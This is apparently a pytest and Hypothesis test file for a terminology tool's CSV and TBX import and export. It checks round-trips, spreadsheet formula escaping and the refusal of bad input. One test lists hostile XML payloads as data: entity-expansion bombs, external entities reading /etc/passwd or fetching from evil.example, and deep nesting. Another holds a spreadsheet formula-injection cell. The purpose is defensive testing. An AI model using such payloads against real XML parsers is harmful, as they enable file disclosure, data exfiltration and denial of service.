"""Terms out to a file and in again: nothing lost, nothing hostile let in."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from careloop.kit.text import LANGUAGES
from careloop.knowledge.language.concept import KINDS, Concept
from careloop.knowledge.language.term_entry import UnreadableTerms, storable, tidied
from careloop.knowledge.language.term_exchange import Format, read_terms, write_terms
from careloop.knowledge.language.term_faults import homonyms
from careloop.knowledge.language.termbase import termbase

LETTERS = st.text(
    st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="|\ufffe\uffff"),
    min_size=1, max_size=12,
)  # fmt: skip
NAME = st.builds(
    lambda head, text: head + text, st.sampled_from(["a", "=1", "'=b", "泵", "-x", "&<", "é", "'"]),
    LETTERS,
).map(lambda text: " ".join(f"{text}k".split()))  # fmt: skip


@st.composite
def concepts(draw: st.DrawFn) -> Concept:
    names = draw(
        st.dictionaries(
            st.sampled_from(LANGUAGES), st.lists(NAME, min_size=1, max_size=3), min_size=1
        )
    )
    tidy = tidied(names)
    reviewed = frozenset(draw(st.sets(st.sampled_from(sorted(tidy)))))
    note = " ".join(draw(st.just("") | NAME).split())
    key = draw(st.from_regex(r"[a-z][a-z0-9]{0,8}(_[a-z0-9]{1,5})?", fullmatch=True))
    kind = draw(st.sampled_from(KINDS))
    return Concept(key, kind, reviewed, tidy, draw(st.sampled_from(["", "own", "=1+1"])), note)


@settings(deadline=None, max_examples=80)
@given(st.lists(concepts(), max_size=5, unique_by=lambda c: c.key), st.sampled_from(["csv", "tbx"]))
def test_a_file_gives_back_what_was_put_in(some: list[Concept], form: Format) -> None:
    reading = read_terms(write_terms(some, form))
    assert reading.problems == []
    assert reading.concepts == some


@pytest.mark.parametrize("form", ["csv", "tbx"])
def test_the_whole_shipped_termbase_goes_out_and_in(form: Format) -> None:
    shipped = list(termbase().concepts_by_key.values())
    reading = read_terms(write_terms(shipped, form))
    assert reading.problems == []
    assert {c.key: c for c in reading.concepts} == {
        c.key: Concept(c.key, c.kind, c.reviewed, tidied(c.names), c.domain, c.note)
        for c in shipped
    }
    assert homonyms()


def test_no_cell_is_a_formula_for_a_spreadsheet() -> None:
    bad = Concept("pump", "component", names={"en": ("=HYPERLINK(1)", "pump")}, note="+1")
    lines = write_terms([bad], "csv").decode("utf-8-sig").splitlines()
    assert "'=HYPERLINK(1)|pump" in lines[1]
    assert lines[1].endswith("'+1")


def test_tbx_as_the_standard_has_it() -> None:
    names = {"en": ("pump", "lift"), "zh": ("泵",)}
    text = write_terms([Concept("pump", "component", frozenset({"en"}), names, "fluid")], "tbx")
    xml = text.decode()
    for part in (
        '<tbx type="TBX-Basic" style="dct"', 'xmlns="urn:iso:std:iso:30042:ed-2"',
        '<conceptEntry id="pump">', "<min:subjectField>fluid</min:subjectField>",
        '<langSec xml:lang="zh">', "preferredTerm-admn-sts", "admittedTerm-admn-sts",
    ):  # fmt: skip
        assert part in xml, xml


DCA = """<?xml version="1.0"?>
<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"><text><body>
<conceptEntry id="c5"><descrip type="subjectField">laboratory</descrip>
<langSec xml:lang="en-GB"><termSec><term>old pump</term>
<termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></termSec>
<termSec><term>feed  pump</term>
<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec></langSec>
<langSec xml:lang="sv"><termSec><term>pump</term></termSec></langSec></conceptEntry>
<conceptEntry id="77"><langSec xml:lang="en"><termSec><term>Ball valve!</term></termSec></langSec>
</conceptEntry><conceptEntry id="e"><langSec xml:lang="en"/></conceptEntry></body></text></tbx>"""


def test_files_of_other_tools_are_read() -> None:
    reading = read_terms(DCA.encode())
    first, second = reading.concepts
    assert (first.key, first.domain, first.kind) == ("c5", "laboratory", "component")
    assert first.names == {"en": ("feed pump", "old pump")}
    assert second.key == "ball_valve"
    assert [(p.row, p.column) for p in reading.problems] == [(1, "lang"), (3, "concept")]


ENTITY = '<?xml version="1.0"?><!DOCTYPE tbx [<!ENTITY a "x">{more}]><tbx>&{name};</tbx>'
HOSTILE = {
    "bomb": ENTITY.format(more='<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">', name="b"),
    "file": ENTITY.format(more='<!ENTITY f SYSTEM "file:///etc/passwd">', name="f"),
    "net": ENTITY.format(more='<!ENTITY f SYSTEM "http://evil.example/x">', name="f"),
    "dtd": '<!DOCTYPE tbx SYSTEM "http://evil.example/x.dtd"><tbx/>',
    "parameter": '<!DOCTYPE tbx [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><tbx/>',
    "half": "<tbx><text>",
    "other": "<html><body>pump</body></html>",
    "deep": "<tbx>" + "<a>" * 5000,
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_and_broken_xml_is_refused(name: str) -> None:
    with pytest.raises(UnreadableTerms) as told:
        read_terms(HOSTILE[name].encode())
    assert "root:" not in told.value.message
    with pytest.raises(UnreadableTerms):
        read_terms(HOSTILE[name].encode("utf-16"))


@pytest.mark.parametrize(
    "data",
    [b"", b"  ", b"\x00\x01\x02", b"name,kind\npump,component\n",
     b"concept,kind,concept\na,b,c\n", b"concept,kind,wrong\na,component,b\n",
     b'concept,kind,en\npump,component,"open\n'],
)  # fmt: skip
def test_what_is_no_table_of_terms_is_refused(data: bytes) -> None:
    with pytest.raises(UnreadableTerms):
        read_terms(data)


def test_rows_that_do_not_fit_are_told_by_row_and_column() -> None:
    text = (
        "concept;kind;reviewed;en;zh\r\n"
        "pump;component;en;pump|lift;泵\r\n"
        "Bad Key;component;;x;\r\n"
        "fan;gadget;;fan;\r\n"
        "seal;component;klingon;seal;\r\n"
        "ring;component;;;\r\n"
        "pump;component;;twice;\r\n"
        "long;component;;" + "n" * 200 + ";\r\n"
        "marks;component;;!!!;\r\n"
        "wide;component;;a;b;c;d\r\n"
    )
    reading = read_terms(text.encode("gb18030"))
    assert [c.key for c in reading.concepts] == ["pump"]
    assert reading.concepts[0].names == {"zh": ("泵",), "en": ("pump", "lift")}
    assert [(p.row, p.column) for p in reading.problems] == [
        (3, "concept"), (4, "kind"), (5, "reviewed"), (6, "concept"), (7, "concept"), (8, "en"),
        (9, "en"), (10, ""),
    ]  # fmt: skip


@settings(deadline=None, max_examples=60)
@given(st.binary(max_size=200) | st.text(max_size=200).map(lambda t: f"concept,kind\n{t}".encode()))
def test_no_bytes_break_the_reader(data: bytes) -> None:
    try:
        reading = read_terms(data)
    except UnreadableTerms:
        return
    assert all(storable(name) for c in reading.concepts for n in c.names.values() for name in n)
